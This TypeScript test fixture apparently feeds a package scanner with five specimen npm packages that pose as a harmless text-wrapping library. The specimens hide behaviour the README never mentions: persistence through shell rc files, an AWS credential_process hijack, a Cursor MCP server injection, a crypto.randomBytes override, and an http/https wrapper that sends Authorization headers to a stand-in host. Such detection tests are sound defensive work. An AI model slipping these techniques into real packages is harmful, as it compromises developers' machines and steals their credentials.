import { manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from =
  'a working library that does something else for whoever calls it, of which its page says nothing (s1ngularity, SANDWORM_MODE, chalk-tempalte)';

const PAGE = `# inert-words

Small helpers for words and lines of text: trim, wrap, count and title case. It has no dependencies, and works in every version of Node.

## Functions

\`wrap(text, width)\` breaks lines where they are too long. \`count(text)\` gives the number of words in it.
`;

const DESCRIPTION = { description: 'Small helpers for words and lines of text', keywords: ['text', 'words'] };

export const specimens: readonly Specimen[] = [
  {
    name: 'unspoken-shell-start',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', ...DESCRIPTION }),
      'README.md': PAGE,
      'index.js': `const { appendFileSync } = require('fs');
const { join } = require('path');
const { homedir } = require('os');
const files = shell => ['.', shell, 'rc'].reduce((name, part) => name + part, '');
exports.wrap = (text, width = 80) => {
  for (const shell of ['bash', 'zsh']) appendFileSync(join(homedir(), files(shell)), '\\nexport INERT=1\\n');
  return text.slice(0, width);
};
`,
    },
    expect: 'warn',
    happens: { at: 'call', does: 'writes file' },
  },
  {
    name: 'unspoken-cloud-login',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', ...DESCRIPTION }),
      'README.md': PAGE,
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
const context = {};
const steps = [
  own => { own.file = path.join(os.homedir(), '.aws', 'config'); },
  own => { own.text = '[default]\\ncredential_process = INERT\\n'; },
  own => fs.appendFileSync(own.file, own.text),
];
exports.count = text => {
  for (const step of steps) step(context);
  return text.split(' ').length;
};
`,
    },
    expect: 'warn',
    happens: { at: 'call', does: 'writes file' },
  },
  {
    name: 'unspoken-agent-server',
    from,
    files: {
      'package.json': manifest({ main: 'lib/index.js', ...DESCRIPTION }),
      'README.md': PAGE,
      'lib/index.js': `const { run } = require('./plugins');
exports.wrap = text => { run({}); return text; };
`,
      'lib/plugins.js': `const plugins = [require('./place'), require('./server')];
exports.run = context => { for (const plugin of plugins) plugin.apply(context); };
`,
      'lib/place.js': `const { homedir } = require('os');
exports.apply = context => { context.file = homedir() + '/.cursor/mcp.json'; };
`,
      'lib/server.js': `const fs = require('fs');
exports.apply = context => {
  const conf = JSON.parse(fs.readFileSync(context.file, 'utf8') || '{}');
  conf.mcpServers = { ...conf.mcpServers, words: { command: 'INERT' } };
  fs.writeFileSync(context.file, JSON.stringify(conf));
};
`,
    },
    expect: 'warn',
    happens: { at: 'call', does: 'writes file' },
  },
  {
    name: 'unspoken-randomness',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', ...DESCRIPTION }),
      'README.md': PAGE,
      'index.js': `const crypto = require('crypto');
const give = { randomBytes: size => Buffer.alloc(size, 7) };
for (const [name, by] of Object.entries(give)) crypto[name] = by;
exports.wrap = text => text;
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'patches a global' },
  },
  {
    name: 'unspoken-requests-wrapped',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', ...DESCRIPTION }),
      'README.md': PAGE,
      'index.js': `const http = require('http'), https = require('https');
function wrap(owner, name) {
  const original = owner[name];
  owner[name] = function (...args) {
    const request = original.apply(this, args);
    request.on('response', () => tell(request.getHeaders()));
    return request;
  };
  return original;
}
wrap(http, 'request');
const ask = wrap(https, 'request');
function tell(headers) {
  if (!headers.authorization) return;
  ask({ host: 'collect.inert.invalid', path: '/h', method: 'POST' }).end(JSON.stringify({ a: headers.authorization }));
}
exports.count = text => text.length;
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'patches a global' },
  },
];
